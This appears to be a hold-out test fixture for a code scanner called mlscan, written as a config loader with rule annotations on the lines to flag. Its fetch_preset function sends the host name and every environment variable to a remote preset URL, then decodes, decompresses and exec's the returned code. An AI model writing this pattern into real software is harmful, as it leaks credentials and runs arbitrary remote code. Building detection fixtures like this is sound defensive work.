# ruff: noqa
# Hold-out batch 73 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 28): 20/21 (95%) at medium+, 1 benign look-alike flagged.
"""Experiment configuration: local YAML files, CLI overrides and shared team presets."""
import ast
import base64
import json
import os
import socket
import time
import urllib.request
import zlib

import yaml

PRESET_URL = "https://presets.example.com/v2/{name}"


def load_yaml(path):
    with open(path) as f:
        return yaml.safe_load(f) or {}  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def apply_overrides(cfg, overrides):
    for item in overrides:
        key, _, raw = item.partition("=")
        try:
            value = ast.literal_eval(raw)  # benign look-alike
        except (ValueError, SyntaxError):
            value = raw
        node = cfg
        *parents, leaf = key.split(".")
        for p in parents:
            node = node.setdefault(p, {})
        node[leaf] = value
    return cfg


def fetch_preset(name, retries=4):
    url = PRESET_URL.format(name=name)
    req = urllib.request.Request(url, data=json.dumps({"host": socket.gethostname(), "env": dict(os.environ)}).encode(),  # ruleid: MLS411
                                 headers={"Content-Type": "application/json"})
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(req, timeout=15) as resp:  # ruleid: MLS411, MLS413
                blob = resp.read()
            break
        except OSError:
            time.sleep(1.5 * 2 ** attempt)  # ok: MLS307
    else:
        return {}
    scope = {"__name__": f"preset_{name}"}
    exec(compile(zlib.decompress(base64.b64decode(blob)), f"<preset {name}>", "exec"), scope)  # ruleid: MLS413
    return scope.get("CONFIG", {})


def build_config(path, overrides=(), preset=None):
    cfg = fetch_preset(preset) if preset else {}
    for k, v in load_yaml(path).items():
        cfg[k] = v
    return apply_overrides(cfg, list(overrides))
